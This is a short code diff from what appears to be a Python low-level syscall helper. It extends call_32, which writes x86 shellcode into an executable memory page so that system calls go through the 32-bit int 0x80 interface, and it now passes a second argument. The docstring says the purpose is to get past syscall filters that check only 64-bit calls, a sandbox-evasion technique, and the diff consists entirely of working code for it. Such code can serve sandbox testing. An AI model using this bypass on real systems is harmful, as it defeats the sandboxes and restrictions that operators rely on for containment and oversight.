@@ -29,11 +29,11 @@ def call(name, *arguments):
     return checked(libc.syscall(ctypes.c_long(NUMBERS[name]), *words))
 
 
-# mov eax, NUMBER; mov ebx, FIRST; xor ecx, ecx; xor edx, edx; xor esi, esi; xor edi, edi; int 0x80; ret, with rbx kept
-def call_32(number, first):
+# mov eax, NUMBER; mov ebx, FIRST; mov ecx, SECOND; xor edx, edx; xor esi, esi; xor edi, edi; int 0x80; ret, with rbx kept
+def call_32(number, first, second=0):
     """The same kernel through the door of 32-bit programs, past any filter that looks at 64-bit calls only."""
     code = (b"\x53\xb8" + number.to_bytes(4, "little") + b"\xbb" + (first & 0xffffffff).to_bytes(4, "little")
-            + b"\x31\xc9\x31\xd2\x31\xf6\x31\xff\xcd\x80\x5b\xc3")
+            + b"\xb9" + second.to_bytes(4, "little") + b"\x31\xd2\x31\xf6\x31\xff\xcd\x80\x5b\xc3")
     page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
     page.write(code)
     entry = ctypes.addressof(ctypes.c_char.from_buffer(page))
